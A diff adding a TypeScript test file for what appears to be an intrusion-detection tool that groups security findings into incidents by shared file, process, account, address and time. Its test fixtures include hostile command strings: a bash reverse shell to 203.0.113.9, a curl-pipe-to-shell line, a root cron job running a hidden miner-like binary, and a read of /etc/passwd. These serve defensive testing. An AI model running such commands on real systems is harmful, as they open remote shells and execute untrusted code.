@@ -1,0 +1,108 @@
+import * as fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import type { Finding } from '../core/finding.ts';
+import { levels } from '../core/level.ts';
+import { storiesOf, type Story } from './stories.ts';
+
+let serial = 0;
+const at = Date.parse('2026-11-20T03:12:00Z');
+const minute = 60_000;
+function sign(more: Partial<Finding> & { value?: string }): Finding {
+  const { value, ...rest } = more;
+  return { id: `f${String(++serial).padStart(4, '0')}`, check: 'cron', kind: 'intrusion', level: 'high', title: { zh: '甲', en: 'a' }, refs: [], evidence: value === undefined ? [] : [{ what: { zh: '行', en: 'line' }, value }], ...rest };
+}
+const ids = (stories: readonly Story[]): string[] => stories.map(({ findings }) => findings.map(({ id }) => id).sort().join(' ')).sort();
+
+describe('findings become one story', () => {
+  it('by the file that a job runs, a process is started from and another check looked at', () => {
+    const job = sign({ path: '/etc/cron.d/zz', value: '* * * * * root /tmp/.x/kd -o pool' });
+    const file = sign({ check: 'setuid', path: '/tmp/.x/kd' });
+    const process = sign({ check: 'process', pid: 812, value: 'exe /tmp/.x/kd (deleted)' });
+    const other = sign({ path: '/usr/local/bin/helper' });
+    const stories = storiesOf([job, other, file, process]);
+    expect(ids(stories)).toEqual(ids([{ findings: [job, file, process] }, { findings: [other] }] as unknown as Story[]));
+    expect(stories.find(({ findings }) => findings.length === 3)!.shared).toEqual(['path:/tmp/.x/kd']);
+  });
+
+  it('by process, account, address and what a check links itself', () => {
+    const a = sign({ pid: 7 });
+    const b = sign({ value: '/proc/7/fd/3 leads to a socket', user: 'deploy' });
+    const c = sign({ path: '/home/deploy/.ssh/authorized_keys', user: 'deploy', kind: 'weakness', level: 'low' });
+    const d = sign({ address: '203.0.113.9', links: ['pid:7'] });
+    const e = sign({ value: 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1' });
+    expect(storiesOf([a, b, c, d, e])).toHaveLength(1);
+  });
+
+  it('by minutes, when they are signs, with the earliest as the entry and how it came', () => {
+    const web = sign({ path: '/var/www/html/up/x.php', check: 'webshell', time: at });
+    const cron = sign({ path: '/etc/cron.d/a', time: at + 2 * minute, level: 'critical' });
+    const key = sign({ path: '/root/.ssh/authorized_keys', time: at + 6 * minute });
+    const later = sign({ path: '/etc/cron.d/b', time: at + 30 * minute });
+    const stories = storiesOf([key, later, cron, web]);
+    expect(stories).toHaveLength(2);
+    expect(stories[0]).toMatchObject({ intrusion: true, level: 'critical', began: at, ended: at + 6 * minute, entry: { way: 'web', time: at }, shared: ['time'] });
+    expect(stories[0]!.entry!.finding).toBe(web);
+  });
+
+  it('takes a way that is known soon after over a first sign that tells nothing', () => {
+    const stories = storiesOf([sign({ path: '/tmp/a', time: at }), sign({ path: '/root/.ssh/authorized_keys', time: at + minute })]);
+    expect(stories[0]!.entry).toMatchObject({ time: at, way: 'ssh' });
+  });
+});
+
+describe('findings stay apart', () => {
+  it('that name a program, a folder or a table everyone names', () => {
+    const jobs = ['/usr/bin/curl -s x', '/bin/sh /tmp', 'cat /etc/passwd', 'sleep 1 > /dev/null', 'http://x.example/a/b', 'ping 127.0.0.1'].flatMap((value) => [sign({ value }), sign({ value })]);
+    expect(storiesOf(jobs)).toHaveLength(jobs.length);
+  });
+
+  it('but not from a sign about that program itself', () => {
+    expect(storiesOf([sign({ path: '/usr/bin/curl', check: 'packages' }), sign({ value: '/usr/bin/curl x | sh' })])).toHaveLength(1);
+  });
+
+  it('when a weak line and an evil line stand in one table', () => {
+    expect(storiesOf([sign({ path: '/etc/passwd' }), sign({ path: '/etc/passwd', kind: 'weakness' }), sign({ path: '/etc/passwd', kind: 'weakness' })])).toHaveLength(2);
+  });
+
+  it('that an upgrade touched in the same minutes', () => {
+    const upgraded = Array.from({ length: 25 }, (_, i) => sign({ kind: 'notice', level: 'low', path: `/usr/lib/n${i}`, time: at + i }));
+    const signs = [sign({ path: '/a/1', time: at }), sign({ path: '/b/2', time: at + 1000 })];
+    expect(storiesOf([...signs, ...upgraded])).toHaveLength(27);
+    expect(storiesOf(signs)).toHaveLength(1);
+    const copied = Array.from({ length: 500 }, (_, i) => sign({ path: `/data/f${i}`, time: at }));
+    expect(storiesOf(copied)).toHaveLength(500);
+  });
+
+  it('that root or half of all share', () => {
+    expect(storiesOf([sign({ user: 'root' }), sign({ user: 'root' })])).toHaveLength(2);
+    const many = Array.from({ length: 100 }, () => sign({ user: 'www-data' }));
+    expect(storiesOf(many)).toHaveLength(100);
+  });
+
+  it('in a chain of hours', () => {
+    const chain = Array.from({ length: 40 }, (_, i) => sign({ path: `/x/f${i}`, time: at + i * 4 * minute }));
+    for (const { began, ended } of storiesOf(chain)) expect(ended! - began!).toBeLessThanOrEqual(60 * minute);
+  });
+});
+
+const anyFinding = fc.record({
+  kind: fc.constantFrom('intrusion' as const, 'weakness' as const, 'notice' as const), level: fc.constantFrom(...levels),
+  path: fc.option(fc.constantFrom('/tmp/a', '/tmp/b', '/etc/passwd', '/usr/bin/x', '/proc/3/exe'), { nil: undefined }), pid: fc.option(fc.integer({ min: 1, max: 5 }), { nil: undefined }),
+  user: fc.option(fc.constantFrom('root', 'lin', 'www-data'), { nil: undefined }), time: fc.option(fc.integer({ min: 0, max: 40 }).map((n) => at + n * minute), { nil: undefined }),
+  value: fc.option(fc.oneof(fc.string(), fc.constantFrom('runs /tmp/a', '/usr/bin/x 203.0.113.9', '/proc/3/maps')), { nil: undefined }),
+}).map((one) => sign(one as Partial<Finding>));
+
+describe('whatever the findings', () => {
+  it('each is in exactly one story, and their order changes nothing', () => {
+    fc.assert(fc.property(fc.array(anyFinding, { maxLength: 60 }).chain((all) => fc.tuple(fc.constant(all), fc.shuffledSubarray(all, { minLength: all.length }))), ([all, shuffled]) => {
+      const stories = storiesOf(all);
+      expect(stories.flatMap(({ findings }) => findings.map(({ id }) => id)).sort()).toEqual(all.map(({ id }) => id).sort());
+      expect(storiesOf(shuffled)).toEqual(stories);
+    }), { numRuns: 200 });
+  });
+
+  it('twenty thousand with hostile evidence come to an end', () => {
+    const many = Array.from({ length: 20_000 }, (_, i) => sign({ path: `/srv/d${i % 300}/f${i}`, value: `${'/a'.repeat(500)} ${'1.'.repeat(200)} /opt/x${i % 900}`, time: at + i * 700, kind: i % 3 === 0 ? 'intrusion' : 'weakness' }));
+    expect(storiesOf(many).reduce((sum, { findings }) => sum + findings.length, 0)).toBe(20_000);
+  });
+});
